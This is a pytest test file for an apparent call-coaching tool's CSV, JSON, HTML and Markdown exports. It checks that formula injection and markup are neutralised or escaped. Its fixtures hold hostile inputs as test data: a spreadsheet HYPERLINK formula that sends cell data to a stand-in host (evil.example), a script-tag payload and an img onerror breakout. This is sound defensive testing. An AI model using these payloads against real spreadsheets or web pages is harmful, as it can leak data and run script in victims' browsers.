"""Exports a coach opens elsewhere: CSV cells a spreadsheet would run as formulas are
neutralised, HTML is rendered from autoescaped templates, Markdown passes no raw HTML.

Every export test writes a real call into a fresh SQLite file and reads it back."""

from __future__ import annotations

import csv
import importlib.resources
import io
from datetime import datetime
from html.parser import HTMLParser

import pytest

from assist.painpoints import PainPointRow, painpoint_chart, render_html, render_md
from assist.review import export_call, export_week
from assist.review.exports import csv_cell
from assist.store import Store

HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
SCRIPT = "<script>alert(1)</script>"
BREAKOUT = '"><img src=x onerror=alert(1)>'
MONDAY = datetime(2024, 6, 3, 9, 0)


@pytest.fixture
def store(tmp_path):
    with Store(f"sqlite:///{tmp_path / 'assist.db'}", spool_dir=tmp_path / "spool") as opened:
        yield opened


@pytest.fixture
def hostile_call(store) -> str:
    """A call whose every free-text field carries a formula or markup."""
    call = "evil-1"
    store.apply_many([
        {"op": "call", "id": call, "agent": f"@dan{SCRIPT}", "started": MONDAY.isoformat(),
         "source": f"+{BREAKOUT}", "status": "complete"},
        {"op": "utterance", "call_id": call, "seq": 1, "speaker": "agent", "start": -3.5,
         "end": 54.068000000000005, "text": f"-calm down {SCRIPT}"},
        {"op": "utterance", "call_id": call, "seq": 2, "speaker": "customer", "start": 54.1,
         "end": 56.0, "text": "\tfine & dandy"},
        {"op": "flag", "call_id": call, "seq": 1, "utterance_seq": 1, "phrase": f"calm{BREAKOUT}",
         "speaker": "agent", "text": "=calm down", "start": -3.5, "end": 54.068000000000005,
         "severity": "\rhigh", "suggestion": "+say it kindly"},
        {"op": "review", "call_id": call, "flag_seq": 1, "verdict": "confirmed",
         "note": HOSTILE_NOTE, "reviewer": "@coach"},
    ])
    return call


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


# ---------------------------------------------------------------- CSV


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(store, hostile_call):
    for exported in (export_call(store, hostile_call, "csv"),
                     export_week(store, "csv", since=MONDAY.date())):
        [row] = _rows(exported)
        assert row["note"] == "'" + HOSTILE_NOTE
        assert row["text"] == "'=calm down"
        assert row["utterance"] == f"'-calm down {SCRIPT}"
        assert row["suggestion"] == "'+say it kindly"
        assert row["severity"] == "'\nhigh"  # a bare CR would end the row for readers
        assert row["agent"] == f"'@dan{SCRIPT}" and row["reviewer"] == "'@coach"
        assert row["phrase"] == f"calm{BREAKOUT}"  # nothing to run: left as it is
        for field, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), field
            if value.startswith("-"):
                assert field in ("start", "end"), field


def test_csv_numbers_stay_numbers_and_are_rounded(store, hostile_call):
    [row] = _rows(export_call(store, hostile_call, "csv"))
    assert (row["flag"], row["start"], row["end"]) == ("1", "-3.5", "54.068")
    assert float(row["start"]) == -3.5


def test_json_exports_round_their_numbers(store, hostile_call):
    import json
    import re

    for exported in (export_call(store, hostile_call, "json"),
                     export_week(store, "json", since=MONDAY.date())):
        assert not re.search(r"\d\.\d{4,}", exported)  # 54.068, not 54.068000000000005
        assert "54.068" in exported
        json.loads(exported)


@pytest.mark.parametrize(("field", "value", "written"), [
    ("text", "=1+2", "'=1+2"),
    ("note", "+44 call me", "'+44 call me"),
    ("note", "-3.5", "'-3.5"),  # text that looks like a number is still text here
    ("note", "@SUM(A1)", "'@SUM(A1)"),
    ("note", "\tx", "'\tx"),
    ("note", "\rx", "'\nx"),
    ("note", "one\r\ntwo\rthree", "one\ntwo\nthree"),
    ("note", "a = b", "a = b"),
    ("note", "", ""),
    ("note", None, ""),
    ("start", "-3.5", "-3.5"),  # a numeric column's number, even as text, is written as is
    ("start", "-1e3", "-1e3"),
    ("start", "-1+2", "'-1+2"),
    ("start", "\t-3", "'\t-3"),  # float() would take it; a spreadsheet might not
    ("start", "=1", "'=1"),
    ("start", -3.5, "-3.5"),
    ("end", 54.068000000000005, "54.068"),
    ("end", "54.068000000000005", "54.068"),  # kept as text by the database: rounded too
    ("end", 1 / 3, "0.333"),
    ("end", 7.0, "7.0"),
    ("score", 0.52349, "0.523"),
    ("flag", 3, 3),
    ("flag", -2, -2),
])
def test_csv_cell(field, value, written):
    assert csv_cell(field, value) == written


# ---------------------------------------------------------------- HTML


class _Page(HTMLParser):
    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def _safe(page: str) -> _Page:
    parsed = _Page(page)
    names = [tag for tag, _ in parsed.tags]
    assert "script" not in names and "img" not in names and "link" not in names
    for _tag, attrs in parsed.tags:
        assert not any(name.startswith("on") for name in attrs)
        assert not any(str(value).startswith(("http://", "https://", "//"))
                       for name, value in attrs.items() if name in ("src", "href"))
    return parsed


def test_html_call_export_escapes_every_field(store, hostile_call):
    page = export_call(store, hostile_call, "html")
    parsed = _safe(page)
    text = "".join(parsed.text)
    for shown in (SCRIPT, f"+{BREAKOUT}", HOSTILE_NOTE, "=calm down", "\tfine & dandy"):
        assert shown in text  # shown as text, not markup
    flag_rows = [attrs for tag, attrs in parsed.tags if tag == "tr" and attrs.get("class") == "flag"]
    assert [attrs["data-phrase"] for attrs in flag_rows] == [f"calm{BREAKOUT}"]
    assert page.startswith("<!DOCTYPE html>") and "<style>" in page
    assert "  -3.5s</td>" in page and ">-3.5s</td>" in page  # transcript and flag times


def test_html_week_export_escapes_every_field(store, hostile_call):
    page = export_week(store, "html", since=MONDAY.date(), team=None)
    parsed = _safe(page)
    text = "".join(parsed.text)
    assert f"@dan{SCRIPT}" in text and HOSTILE_NOTE in text and f"calm{BREAKOUT}" in text
    assert sum(tag == "svg" for tag, _ in parsed.tags) == 1  # the chart of flags per day
    matrix = [attrs for tag, attrs in parsed.tags if attrs.get("class") == "matrix"]
    assert matrix


def test_week_chart_has_axes_and_its_last_day_inside_the_picture(store, hostile_call):
    """The chart of flags per day: a y axis of flags, a bar per verdict, every day named
    under its bar, the last one too (the old hand-drawn chart cut it in half)."""
    import re

    page = export_week(store, "html", since=MONDAY.date())
    svg = page[page.index("<svg"):page.index("</svg>")]
    width = float(re.search(r'viewBox="0 0 ([\d.]+) [\d.]+"', svg).group(1))
    labels = {m.group(2): float(m.group(1)) for m in re.finditer(
        r'<text style="font-size: 8px[^"]*" transform="translate\(([\d.]+) [\d.]+\)">([^<]+)<', svg)}
    days = [f"{d}" for d in range(3, 10)]  # Mon 3 Jun .. Sun 9 Jun
    assert {"Mon", "Sun", "3 Jun", *days[1:]} <= set(labels)
    assert all(x >= 0 and x + 6 * len(text) <= width for text, x in labels.items())
    assert ">flags</text>" in svg and ">confirmed</text>" in svg


def test_templates_are_package_data():
    """The loaders read them from the package, so they ship in the wheel with it."""
    for package, names in [("assist.review", ["page.html.j2", "call.html.j2", "week.html.j2",
                                              "_parts.html.j2"]),
                           ("assist.painpoints", ["report.html.j2"])]:
        folder = importlib.resources.files(package) / "templates"
        assert all((folder / name).is_file() for name in names), package


# ---------------------------------------------------------------- pain-point reports


def _painpoints() -> tuple[list[PainPointRow], dict[str, list]]:
    rows = [PainPointRow("pp-1", f"card, late {SCRIPT}", 5, 3, MONDAY, MONDAY,
                         [0, 1, 2, 0, 5, 0, 1]),
            PainPointRow("pp-2", "", 1, 1, None, None, [0] * 7)]
    samples = {"pp-1": [(f"my card {BREAKOUT} & co", "c1", MONDAY),
                        ("two lines\n# not a heading", None, MONDAY)]}
    return rows, samples


def test_painpoint_html_report_escapes_labels_and_examples():
    from assist.charts import day_chart_svg

    rows, samples = _painpoints()
    charts = {r.id: day_chart_svg(painpoint_chart(r, 7, MONDAY)) for r in rows}
    page = render_html(rows, samples, 7, charts)
    parsed = _safe(page)
    text = "".join(parsed.text)
    assert f"card, late {SCRIPT}" in text and f"my card {BREAKOUT} & co" in text
    assert sum(tag == "svg" for tag, _ in parsed.tags) == 2
    assert "<small>pp-2</small>" in page  # no label: the id stands in
    assert "No pain points yet." in render_html([], {}, 14, {})


def test_painpoint_markdown_passes_no_raw_html():
    rows, samples = _painpoints()
    md = render_md(rows, samples, 7)
    assert "<" not in md and ">" not in md.replace("&gt;", "")
    assert "## card, late &lt;script&gt;alert(1)&lt;/script&gt; (`pp-1`)" in md
    assert "- my card \"&gt;&lt;img src=x onerror=alert(1)&gt; &amp; co" in md
    assert "- two lines # not a heading" in md  # one list item, not a new heading
    assert "## pp-2 (`pp-2`)" in md
